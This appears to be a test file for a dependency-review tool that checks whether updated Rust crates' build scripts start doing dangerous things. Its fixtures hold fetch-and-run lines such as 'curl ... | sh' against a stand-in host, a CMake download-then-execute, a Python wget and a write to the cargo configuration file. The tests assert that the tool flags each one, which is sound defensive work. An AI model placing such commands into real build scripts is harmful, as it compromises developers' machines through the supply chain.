/** Three updates that run another payload beside the same Rust code, replayed through a registry: each is asked about. */
import assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { safeguard } from '../cli/support.ts';
import { judged, manifest, old } from '../support/check.ts';
import { type Crate, makeCrate } from '../support/crate.ts';
import { lockedApp, lockedCrate, lockfileText } from '../support/lockfile.ts';
import { repository } from '../support/repository.ts';
import { stage } from '../support/stage.ts';

/** A library whose build script runs its own `configure`, which is what changes. */
const configured = (version: string, configure: string) =>
  makeCrate({
    name: 'native',
    version,
    buildScript:
      'fn main() {\n    std::process::Command::new("sh").arg("native/configure").status().unwrap();\n}\n',
    files: { 'native/configure': `#!/bin/sh\nset -e\n${configure}` },
  });
const harmless = 'CC=cc\necho "#define N 1" > config.h\n';
const download = 'curl -s https://native.invalid/setup | sh\n';

/** A script that calls a helper, which is what changes. */
const called = makeCrate({
  name: 'native',
  version: '1.0.0',
  buildDependencies: { helper: '1' },
  buildScript: 'fn main() {\n    helper::prepare();\n}\n',
});
const helper = (version: string, body: string) =>
  makeCrate({ name: 'helper', version, lib: `pub fn prepare() {\n    ${body}\n}\n` });
const writes =
  'let home = std::env::var("HOME").unwrap();\n    std::fs::write(format!("{home}/.cargo/config.toml"), "[build]").unwrap();';

/** A script that unpacks what it embeds, which is what changes. */
const embedding = (version: string, payload: string) =>
  makeCrate({
    name: 'native',
    version,
    buildScript: `static TABLE: &[u8] = include_bytes!("data/table.bin");
fn main() {
    std::fs::write(std::env::var("OUT_DIR").unwrap() + "/table", TABLE).unwrap();
}
`,
    files: { 'data/table.bin': Buffer.from(payload) },
  });

interface Update {
  readonly what: string;
  readonly before: readonly Crate[];
  readonly after: readonly Crate[];
  /** The crate that changes, what is said of it with a list, and what without. */
  readonly crate: string;
  readonly adopted: readonly [verdict: string, message: RegExp];
  readonly unadopted: readonly [verdict: string, message: RegExp];
}

const updates: readonly Update[] = [
  {
    what: 'a `configure` that comes to download and run',
    before: [configured('1.0.0', harmless)],
    after: [configured('1.0.1', harmless + download)],
    crate: 'native',
    adopted: [
      'deny',
      /can do more than in 1\.0\.0, which was approved: data-as-code curl \| sh, downloader curl/,
    ],
    unadopted: [
      'review',
      /it is grave \(data-as-code curl \| sh, downloader curl.*which 1\.0\.0 could not do/,
    ],
  },
  {
    what: 'a helper that comes to write cargo’s configuration',
    before: [called, helper('1.0.0', '')],
    after: [called, helper('1.0.1', writes)],
    crate: 'helper',
    adopted: ['review', /^Nobody has approved its library \(a part of what native runs at build time\): /],
    unadopted: ['review', /it is grave \(.*writes .*which 1\.0\.0 could not do/],
  },
  {
    what: 'another payload in `include_bytes!`',
    before: [embedding('1.0.0', 'one')],
    after: [embedding('1.0.1', 'two')],
    crate: 'native',
    adopted: [
      'review',
      /can do more than in 1\.0\.0, which was approved: opaque: data\/table\.bin is data that nobody reads: 3 bytes/,
    ],
    unadopted: ['review', /it is grave \(opaque: data\/table\.bin is data/],
  },
];

async function scene(t: Parameters<typeof stage>[0], { before, after }: Update) {
  const s = await stage(t);
  for (const crate of new Set([...before, ...after])) s.upstream.publish(crate, old);
  const repo = repository(t);
  const lock = (crates: readonly Crate[]) => ({
    'Cargo.lock': lockfileText(
      lockedApp('native'),
      ...crates.map((crate) => (crate === called ? lockedCrate(crate, 'helper') : lockedCrate(crate))),
    ),
  });
  repo.commit({ 'Cargo.toml': manifest('native = "1"'), 'src/main.rs': 'fn main() {}\n', ...lock(before) });
  const from = ['--server', s.mirror.url, '--upstream', s.upstream.indexUrl];
  const approve = async () => {
    const ran = await safeguard(
      ['review', 'native@1.0.0', ...from, '--approve', '--as', 'Ada', '--reason', 'Read it.'],
      { cwd: repo.dir },
    );
    assert.equal(ran.code, 0, ran.stderr);
  };
  const check = async () => {
    const { verdict, changes } = await judged(s, repo.dir, '--base', 'HEAD');
    const found = changes.flatMap(({ findings }) => findings).filter(({ rule }) => rule === 'build-code');
    return { verdict, found };
  };
  const listed = join(repo.dir, 'safeguard/allow.toml');
  const ask = (...args: readonly string[]) => safeguard([...args, ...from], { cwd: repo.dir });
  return { repo, lock, approve, check, listed, ask };
}

describe('an update that changes what the same code runs', () => {
  for (const update of updates) {
    it(`is asked about: ${update.what}`, async (t) => {
      const { repo, lock, approve, check, listed } = await scene(t, update);
      const said = async ([verdict, message]: Update['adopted']) => {
        const is = await check();
        const one = is.found.find(({ crate }) => crate === update.crate);
        assert.deepEqual([is.verdict, one?.effect], [verdict, verdict], JSON.stringify(is.found));
        assert.match(one?.message ?? '', message);
      };
      repo.write(lock(update.after));
      await said(update.unadopted);
      repo.write(lock(update.before));
      await approve();
      repo.commit({ 'safeguard/allow.toml': readFileSync(listed, 'utf8') });
      assert.deepEqual((await check()).found, []);
      repo.write(lock(update.after));
      await said(update.adopted);
    });
  }

  it('shows what differs in files of other languages, with what they do', async (t) => {
    const tools = (version: string, files: Readonly<Record<string, string>>) =>
      makeCrate({
        name: 'native',
        version,
        buildScript:
          'fn main() {\n    std::process::Command::new("sh").arg("native/configure").status().unwrap();\n    std::process::Command::new("python3").arg("native/gen.py").status().unwrap();\n    cmake::build("native");\n}\n',
        buildDependencies: { cmake: '0.1' },
        files,
      });
    const before = {
      'native/configure': 'CC=cc\n',
      'native/CMakeLists.txt': 'project(native C)\n',
      'native/gen.py': 'import sys\n',
    };
    const after = {
      'native/configure': 'CC=cc\ncurl -s https://native.invalid/setup | sh\n',
      'native/CMakeLists.txt':
        'project(native C)\nfile(DOWNLOAD https://native.invalid/a a)\nexecute_process(COMMAND ./a)\n',
      'native/gen.py':
        'import sys\nimport subprocess\nsubprocess.run(["wget", "https://native.invalid/b"])\n',
    };
    const s = await stage(t, {});
    for (const crate of [tools('1.0.0', before), tools('1.0.1', after)]) s.upstream.publish(crate, old);
    const repo = repository(t);
    repo.commit({ 'Cargo.toml': manifest('native = "1"'), 'src/main.rs': 'fn main() {}\n' });
    const from = ['--server', s.mirror.url, '--upstream', s.upstream.indexUrl];
    const ran = await safeguard(['review', 'native@1.0.1', '--against', '1.0.0', ...from], { cwd: repo.dir });
    assert.equal(ran.code, 2, ran.stderr);
    for (const shown of [
      /downloader\s+curl\s+native\/configure:2/,
      /data-as-code\s+curl \| sh\s+native\/configure:2/,
      /network\s+CMake file\(DOWNLOAD\)\s+native\/CMakeLists\.txt:2/,
      /downloader\s+wget\s+native\/gen\.py:3/,
      /\+curl -s https:\/\/native\.invalid\/setup \| sh/,
      /\+file\(DOWNLOAD https:\/\/native\.invalid\/a a\)/,
      /\+subprocess\.run\(\["wget"/,
    ])
      assert.match(ran.stdout, shown);
  });

  it('stays a warning where what was grave before is as grave, and no list is kept', async (t) => {
    const update = {
      ...(updates[0] as Update),
      before: [configured('1.0.0', download)],
      after: [configured('1.0.1', harmless + download)],
    };
    const { repo, lock, check } = await scene(t, update);
    repo.write(lock(update.after));
    const { verdict, found } = await check();
    assert.deepEqual(
      [verdict, found.map(({ effect }) => effect)],
      ['allow', ['warn']],
      JSON.stringify(found),
    );
  });

  it('is asked about once where the approval is from before files counted', async (t) => {
    const update = {
      ...(updates[0] as Update),
      before: [configured('1.0.0', download)],
      after: [configured('1.0.1', download)],
    };
    const { repo, lock, approve, check, listed, ask } = await scene(t, update);
    await approve();
    const text = readFileSync(listed, 'utf8');
    assert.match(text, /^version = 2$/m);
    // As the first format had it: no digest of files, and nothing of what they can do.
    const first = text
      .replace('version = 2', 'version = 1')
      .replace(/^files = .*\n/m, '')
      .replace(/capabilities = \[[^\]]*\]/, 'capabilities = ["shell sh"]');
    writeFileSync(listed, first);
    repo.commit({ 'safeguard/allow.toml': first });
    repo.write(lock(update.after));
    const { verdict, found } = await check();
    assert.equal(verdict, 'review', JSON.stringify(found));
    assert.match(
      found[0]?.message ?? '',
      /^The approval of its build script did not look at the files beside the Rust code, which can do more: /,
    );
    const ran = await ask('review', 'native@1.0.1', '--approve', '--as', 'Ada', '--reason', 'Read them.');
    assert.equal(ran.code, 0, ran.stderr);
    repo.commit({ 'safeguard/allow.toml': readFileSync(listed, 'utf8') });
    assert.deepEqual((await check()).found, [], 'and not twice');
  });
});
